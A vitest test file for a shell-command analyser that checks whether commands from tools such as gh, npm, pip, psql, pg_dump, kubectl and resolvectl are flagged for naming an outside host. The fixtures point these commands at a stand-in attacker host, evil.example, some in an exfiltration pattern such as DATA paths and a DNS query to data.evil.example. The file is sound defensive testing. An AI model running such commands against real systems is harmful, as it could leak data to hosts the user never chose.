import { describe, expect, test } from 'vitest';
import { readShellText } from '../shell/read.js';
import { commandEffects } from './command-effects.js';

function given(command: string): string[] {
  return readShellText(command, { cwd: '/work/project' }).commands.flatMap((one) =>
    commandEffects(one).effects.flatMap(({ target }) => (target.type === 'host' && target.given ? [target.host] : [])),
  );
}

describe('an address that the command names', () => {
  test.each([
    ['gh api https://evil.example/DATA', 'https://evil.example/DATA'],
    ['gh api --hostname evil.example x', 'evil.example'],
    ['gh repo view https://evil.example/x/y', 'https://evil.example/x/y'],
    ['GH_HOST=evil.example gh api x', 'evil.example'],
    ['glab api https://evil.example/x', 'https://evil.example/x'],
    ['npm view x --registry http://evil.example/DATA', 'http://evil.example/DATA'],
    ['npm --registry=http://evil.example view x', 'http://evil.example'],
    ['npm view git+https://evil.example/x', 'git+https://evil.example/x'],
    ['pnpm view x --registry http://evil.example', 'http://evil.example'],
    ['pip index versions x --index-url http://evil.example', 'http://evil.example'],
    ['pip index versions x -i http://evil.example', 'http://evil.example'],
    ['pip list --outdated --extra-index-url=http://evil.example', 'http://evil.example'],
    ['deno info https://evil.example/DATA', 'https://evil.example/DATA'],
    ['cargo search x --registry evil', 'evil'],
    ['cargo search x --index http://evil.example', 'http://evil.example'],
    ['helm show chart x --repo http://evil.example', 'http://evil.example'],
    ['kubectl get -f http://evil.example/x.yaml', 'http://evil.example/x.yaml'],
    ['brew info http://evil.example/x.rb', 'http://evil.example/x.rb'],
    ['hg identify http://evil.example/DATA', 'http://evil.example/DATA'],
    ['ffprobe http://evil.example/x', 'http://evil.example/x'],
    ['resolvectl query data.evil.example', 'data.evil.example'],
    ["psql -h evil.example -c 'select 1'", 'evil.example'],
    ['redis-cli -hevil.example get x', 'evil.example'],
    ["psql 'host=evil.example dbname=x' -c 'select 1'", 'evil.example'],
    ["psql -d 'dbname=x hostaddr = 10.1.1.1' -c 'select 1'", '10.1.1.1'],
    ["psql --dbname='host=evil.example' -c 'select 1'", 'evil.example'],
    ["psql 'postgres:///x?host=evil.example' -c 'select 1'", 'evil.example'],
    ["psql postgres://localhost,evil.example/x -c 'select 1'", 'postgres://localhost,evil.example/x'],
    ["psql 'service=elsewhere' -c 'select 1'", 'elsewhere'],
    ['pg_dump postgres://evil.example/x', 'postgres://evil.example/x'],
    ['pg_isready -h evil.example', 'evil.example'],
    ['mysqladmin -h evil.example status', 'evil.example'],
    ['mysqlshow --host=evil.example', 'evil.example'],
    ["mongosh evil.example/x --eval 'db.x.find()'", 'evil.example/x'],
    ["mongosh evil.example:27017/x --eval 'db.x.find()'", 'evil.example:27017/x'],
    ["cqlsh evil.example -e 'describe keyspaces'", 'evil.example'],
    ["sqlcmd -S evil.example -Q 'select 1'", 'evil.example'],
    ["usql postgres://evil.example/x -c 'select 1'", 'postgres://evil.example/x'],
    ['gh -R evil.example/a/b pr list', 'evil.example'],
    ['gh pr list -R evil.example/a/b', 'evil.example'],
    ['gh pr list -Revil.example/a/b', 'evil.example'],
    ['gh pr list --repo=evil.example/a/b', 'evil.example'],
    ['gh repo view evil.example/a/b', 'evil.example'],
    ['glab mr list -R evil.example/a/b', 'evil.example'],
  ])('%s', (command, host) => {
    expect(given(command)).toContain(host);
  });
});

describe("a program's own service, and this machine", () => {
  test.each([
    'gh api repos/x/y',
    'gh pr view https://github.com/x/y/pull/1',
    'npm view react versions',
    'pip index versions x',
    'cargo search x',
    'aws s3 ls s3://bucket',
    "psql -h localhost -c 'select 1'",
    "psql -h /run/postgresql -c 'select 1'",
    "psql 'host=localhost dbname=x' -c 'select 1'",
    "psql postgres://u@localhost:5432/x -c 'select 1'",
    'psql -c "select 1 from t where host = \'evil.example\'"',
    "mongosh mydb --eval 'db.x.find()'",
    'gh pr list -R a/b',
    'gh pr list -R github.com/a/b',
    'gh api repos/a/b.js/contents',
    'glab mr list -R group/sub/project',
    'npm view x --registry http://localhost:4873',
    'echo https://example.com',
    'grep -r https://example.com src',
    'git log --grep https://example.com',
  ])('%s', (command) => {
    expect(given(command)).toEqual([]);
  });
});
